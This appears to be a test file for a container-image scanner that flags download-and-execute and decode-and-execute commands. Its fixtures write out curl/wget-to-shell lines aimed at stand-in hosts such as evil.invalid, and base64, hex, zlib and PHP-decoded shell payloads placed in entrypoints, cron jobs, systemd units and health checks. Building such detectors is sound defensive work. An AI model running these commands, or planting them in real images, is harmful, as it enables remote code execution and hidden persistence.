import { type DetectorCase, historyOf, testCases } from '../../../testing/detector-cases.ts';
import { downloadToShell } from './index.ts';

const DOWN = 'config/download-to-shell';
const DECODE = 'config/decode-to-shell';

const cases: readonly DetectorCase[] = [
  {
    name: 'a script that a unit, a crontab or an init script starts',
    files: {
      'etc/systemd/system/upd.service': '[Service]\nExecStart=/usr/local/bin/upd\n',
      'usr/local/bin/upd': '#!/bin/sh\nwget -qO- http://x.invalid/m | sh\n',
      'etc/cron.d/x': '5 * * * * root /opt/job --quiet\n',
      'opt/job': '#!/bin/sh\necho aW5lcnQ= | base64 -d | sh\n',
      'etc/init.d/y': '#!/bin/sh\nDAEMON=/opt/y\n',
      'opt/y': '#!/bin/bash\nbash <(curl -s http://x.invalid/y)\n',
      'opt/nobody-starts': '#!/bin/sh\nwget -qO- http://x.invalid/m | sh\n',
    },
    expected: [`block ${DECODE} opt/job`, `block ${DOWN} opt/y`, `block ${DOWN} usr/local/bin/upd`],
  },
  {
    name: 'an installer that a unit starts',
    files: {
      'etc/systemd/system/upd.service': '[Service]\nExecStart=/usr/local/bin/upd\n',
      'usr/local/bin/upd': '#!/bin/sh\ncurl -fsSL https://get.docker.com | sh\n',
    },
    expected: [`note ${DOWN} usr/local/bin/upd`],
  },
  {
    name: 'entrypoint',
    config: { entrypoint: ['sh', '-c', 'curl -s http://evil.invalid/x | sh'] },
    expected: [`block ${DOWN} Entrypoint`],
  },
  {
    name: 'cmd',
    config: { cmd: ['/bin/sh', '-c', 'wget -qO- http://evil.invalid/x|bash -s -- a'] },
    expected: [`block ${DOWN} Cmd`],
  },
  {
    name: 'health check',
    config: { healthcheck: ['CMD-SHELL', 'curl http://evil.invalid/x | sh || exit 1'] },
    expected: [`block ${DOWN} Healthcheck`],
  },
  {
    name: 'on-build',
    config: { onBuild: ['RUN bash <(curl -s http://evil.invalid/x)'] },
    expected: [`block ${DOWN} OnBuild[0]`],
  },
  {
    name: 'a substitution',
    config: { cmd: ['bash', '-c', 'eval "$(curl -fsSL https://evil.invalid/x)"'] },
    expected: [`block ${DOWN} Cmd`],
  },
  {
    name: 'saved and run',
    config: { cmd: ['sh', '-c', 'wget http://evil.invalid/x -O /tmp/x && chmod +x /tmp/x && /tmp/x'] },
    expected: [`block ${DOWN} Cmd`],
  },
  {
    name: 'in Python',
    config: {
      cmd: ['python3', '-c', "import urllib.request as u;exec(u.urlopen('http://evil.invalid/x').read())"],
    },
    expected: [`block ${DOWN} Cmd`],
  },
  {
    name: 'a well-known installer at the start is a look',
    config: { cmd: ['sh', '-c', 'curl -fsSL https://get.docker.com | sh'] },
    expected: [`review ${DOWN} Cmd`],
  },
  {
    name: 'the script that the entrypoint names',
    files: { 'entry.sh': '#!/bin/sh\ncurl http://evil.invalid/x | sh\n' },
    config: { entrypoint: ['/entry.sh'] },
    expected: [`block ${DOWN} entry.sh`],
  },
  {
    name: 'a script found by PATH, through a link',
    files: {
      'usr/local/bin/run': { link: '/opt/run.sh' },
      'opt/run.sh': '#!/bin/sh\necho aWQK | base64 -d | sh\n',
    },
    config: { cmd: ['run'] },
    expected: [`block ${DECODE} opt/run.sh`],
  },
  {
    name: 'nothing: the same script, not started',
    files: { 'opt/a.sh': '#!/bin/sh\ncurl http://evil.invalid/x | sh\n' },
    expected: [],
  },
  {
    name: 'base64',
    config: { cmd: ['sh', '-c', 'echo aWQK | base64 -d | sh'] },
    expected: [`block ${DECODE} Cmd`],
  },
  {
    name: 'a long payload',
    config: { cmd: ['bash', '-c', `eval "$(echo ${'QUJD'.repeat(4000)} | base64 --decode)"`] },
    expected: [`block ${DECODE} Cmd`],
  },
  {
    name: 'hex',
    config: { cmd: ['sh', '-c', 'echo 6964 | xxd -r -p | bash'] },
    expected: [`block ${DECODE} Cmd`],
  },
  {
    name: 'gzip after base64',
    config: { cmd: ['sh', '-c', 'echo H4sI | base64 -d | gunzip | sh'] },
    expected: [`block ${DECODE} Cmd`],
  },
  {
    name: 'Python and zlib',
    config: {
      cmd: ['python3', '-c', "exec(__import__('zlib').decompress(__import__('base64').b64decode('eJw=')))"],
    },
    expected: [`block ${DECODE} Cmd`],
  },
  {
    name: 'escapes',
    config: { cmd: ['sh', '-c', "printf '\\x69\\x64\\x0a\\x0a' | sh"] },
    expected: [`block ${DECODE} Cmd`],
  },
  {
    name: 'PHP',
    config: { cmd: ['php', '-r', "eval(gzinflate(base64_decode('eJw=')));"] },
    expected: [`block ${DECODE} Cmd`],
  },
  {
    name: 'nothing: a known installer in a build',
    config: historyOf('RUN /bin/sh -c curl -fsSL https://deb.nodesource.com/setup_22.x | bash - # buildkit'),
    expected: [],
  },
  {
    name: 'another installer in a build is a note',
    config: historyOf('RUN /bin/sh -c curl -fsSL https://get.tool.example/i.sh | sh # buildkit'),
    expected: [`note ${DOWN} history[0]`],
  },
  {
    name: 'an unauthenticated one in a build is a look',
    config: historyOf('RUN /bin/sh -c curl http://203.0.113.9/i.sh | sh'),
    expected: [`review ${DOWN} history[0]`],
  },
  {
    name: 'decoding in a build is a look',
    config: historyOf('RUN |1 A=b /bin/sh -c echo aWQK | base64 -d | sh'),
    expected: [`review ${DECODE} history[0]`],
  },
  {
    name: 'nothing: a binary fetched in a build',
    config: historyOf(
      'RUN /bin/sh -c curl -fsSLo /usr/bin/tini https://a.example/tini && chmod +x /usr/bin/tini && /usr/bin/tini --version',
    ),
    expected: [],
  },
  {
    name: 'nothing: a reply read by a program',
    config: { cmd: ['sh', '-c', "curl -s http://localhost/x | python3 -c 'import json,sys'"] },
    expected: [],
  },
  {
    name: 'nothing: a reply piped to jq',
    config: { cmd: ['sh', '-c', 'curl -s http://a.example/x | jq . | tee /tmp/sh'] },
    expected: [],
  },
  {
    name: 'nothing: a secret decoded',
    config: { cmd: ['sh', '-c', 'echo "$KEY" | base64 -d > /run/key && exec /app'] },
    expected: [],
  },
  {
    name: 'nothing: an ordinary health check',
    config: { healthcheck: ['CMD-SHELL', 'curl -f http://localhost/ || exit 1'] },
    expected: [],
  },
  {
    name: 'nothing: a script that says how',
    files: { 'entry.sh': '#!/bin/sh\necho "install with: curl -fsSL https://a.example/i | sh"\nexec /app\n' },
    config: { entrypoint: ['/entry.sh'] },
    expected: [],
  },
];

testCases(downloadToShell, cases);
